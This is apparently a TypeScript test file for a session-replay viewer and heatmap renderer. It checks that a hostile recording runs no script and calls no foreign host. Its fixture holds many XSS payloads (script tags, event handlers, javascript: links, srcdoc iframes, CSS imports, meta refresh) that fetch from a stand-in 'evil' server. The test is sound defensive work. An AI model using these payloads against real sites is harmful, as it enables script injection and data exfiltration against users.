// A hostile client can post any events it likes. Replaying them in the viewer must
// run nothing and fetch nothing from a foreign host.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createWorld, type World } from '../helpers/world.ts';
import { ADMIN_TOKEN } from '../helpers/server.ts';

let world: World;
let evil: Server;
let evilOrigin: string;
const evilHits: string[] = [];

before(async () => {
  world = await createWorld();
  evil = createServer((req, res) => {
    evilHits.push(req.url ?? '');
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
});
after(async () => {
  await new Promise((resolve) => evil.close(resolve));
  await world.close();
});

let nextId = 100;
const el = (tagName: string, attributes: Record<string, string>, ...childNodes: object[]) => ({ type: 2, tagName, attributes, childNodes, id: nextId++ });
const text = (textContent: string) => ({ type: 3, textContent, id: nextId++ });

function hostileSnapshot(): object {
  const pwn = (n: number) => `top.__pwned=${n};fetch('${evilOrigin}/script-${n}')`;
  const body = el(
    'body',
    {},
    el('h1', { id: 'marker' }, text('Hostile page')),
    el('script', {}, text(pwn(1))),
    el('img', { src: `${evilOrigin}/pixel.gif`, onerror: pwn(2) }),
    el('img', { src: 'x:broken', onerror: pwn(3) }),
    el('a', { id: 'js-link', href: `javascript:${pwn(4)}` }, text('click me')),
    el('iframe', { srcdoc: `<script>${pwn(5)}</script><img src="${evilOrigin}/srcdoc.gif">` }),
    el('div', { style: `width:10px;height:10px;background:url(${evilOrigin}/css-bg.png)` }),
    el('style', {}, text(`@import url(${evilOrigin}/import.css); #marker { background-image: url(${evilOrigin}/style.png) }`)),
    el('link', { rel: 'stylesheet', href: `${evilOrigin}/sheet.css` }),
    el('object', { data: `${evilOrigin}/object.swf` }),
    el('svg', { onload: pwn(6) }),
    el('form', { action: `${evilOrigin}/form` }, el('input', { id: 'field', name: 'email', value: '' }), el('button', { autofocus: '', onfocus: pwn(7) }, text('go'))),
    el('video', { src: `${evilOrigin}/movie.mp4`, autoplay: '' }),
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${evilOrigin}/refresh` }),
  );
  return { type: 0, id: 1, childNodes: [{ type: 1, name: 'html', publicId: '', systemId: '', id: 2 }, el('html', {}, el('head', {}, el('base', { href: `${evilOrigin}/` })), body)] };
}

test('a hostile recording replays in the viewer without running anything or calling a foreign host', async () => {
  const t0 = Date.now();
  const events = [
    { type: 4, timestamp: t0, data: { href: `${world.site.origin}/shop`, width: 1024, height: 768 } },
    { type: 2, timestamp: t0 + 10, data: { node: hostileSnapshot(), initialOffset: { top: 0, left: 0 } } },
    // Later a mutation adds another script, and an attribute change adds a handler.
    { type: 3, timestamp: t0 + 500, data: { source: 0, texts: [], attributes: [{ id: 100, attributes: { onclick: 'top.__pwned=8' } }], removes: [], adds: [{ parentId: 100, nextId: null, node: { type: 2, tagName: 'script', attributes: { src: `${evilOrigin}/added.js` }, childNodes: [], id: 900 } }] } },
    { type: 3, timestamp: t0 + 1500, data: { source: 1, positions: [{ x: 5, y: 5, id: 100, timeOffset: 0 }] } },
  ];
  const res = await fetch(world.server.url + '/api/v1/ingest', {
    method: 'POST',
    headers: { 'Content-Type': 'text/plain', Origin: world.site.origin },
    body: JSON.stringify({ site: world.siteKey, visitor: 'hostile-visitor', session: 'hostile-session', seq: 0, events }),
  });
  assert.equal(res.status, 202);

  const context = await world.browser.newContext();
  const page = await context.newPage();
  const foreign: string[] = [];
  // Requests the CSP blocks are reported as failed; only those that got an answer count.
  page.on('requestfinished', (r) => {
    if (r.url().startsWith(evilOrigin)) foreign.push(r.url());
  });
  let dialogs = 0;
  page.on('dialog', (d) => void (dialogs++, d.dismiss()));
  await page.goto(world.server.url + '/viewer/');
  await page.getByLabel('Access token').fill(ADMIN_TOKEN);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByTestId('sessions-table').waitFor();
  await page.goto(world.server.url + '/viewer/sessions/hostile-session');
  const frame = page.frameLocator('.rr-player iframe');
  await frame.locator('#marker').waitFor({ state: 'attached' });
  await page.locator('.rr-controller__btns button').first().click(); // play
  await page.waitForTimeout(2500);
  await frame.locator('#js-link').click({ force: true }).catch(() => undefined);

  assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined, 'no recorded script ran');
  assert.equal(dialogs, 0);
  assert.deepEqual(evilHits, [], 'the foreign host heard nothing');
  assert.deepEqual(foreign, [], 'the browser sent nothing to a foreign host');
  assert.equal(await frame.locator('#field').getAttribute('autocomplete'), 'off', "rebuilt fields never show the researcher's autofill");
  assert.match(page.url(), /\/viewer\/sessions\/hostile-session(\?t=\d+)?$/, 'nothing navigated the viewer away (?t= follows playback)');
  await context.close();
});

test('the same hostile page under a heatmap PNG is rendered by the server without running anything or calling a foreign host', async () => {
  const t0 = Date.now();
  const events = [
    { type: 4, timestamp: t0, data: { href: `${world.site.origin}/hostile`, width: 1024, height: 768 } },
    { type: 2, timestamp: t0 + 10, data: { node: hostileSnapshot(), initialOffset: { top: 0, left: 0 } } },
  ];
  const res = await fetch(world.server.url + '/api/v1/ingest', {
    method: 'POST',
    headers: { 'Content-Type': 'text/plain', Origin: world.site.origin },
    body: JSON.stringify({
      site: world.siteKey, visitor: 'hostile-visitor-2', session: 'hostile-session-2', seq: 0, events,
      pages: [{ pv: 0, url: `${world.site.origin}/hostile`, ts: t0, viewportWidth: 1024, viewportHeight: 768, docWidth: 1024, docHeight: 900 }],
      clicks: [{ pv: 0, ts: t0 + 20, x: 100, y: 40, selector: 'h1#marker', offsetX: 50, offsetY: 50 }],
    }),
  });
  assert.equal(res.status, 202);
  const q = new URLSearchParams({ site: world.siteKey, url: `${world.site.origin}/hostile`, device: 'desktop' });
  for (const map of ['clicks', 'scroll']) {
    const png = await world.server.api(`/api/v1/heatmaps/${map}.png?${q}`);
    assert.equal(png.status, 200);
    assert.equal(png.headers.get('x-einblick-background'), 'screenshot', `${map}: the hostile page was rendered`);
  }
  assert.deepEqual(evilHits, [], 'the foreign host heard nothing from the server-side render');
});
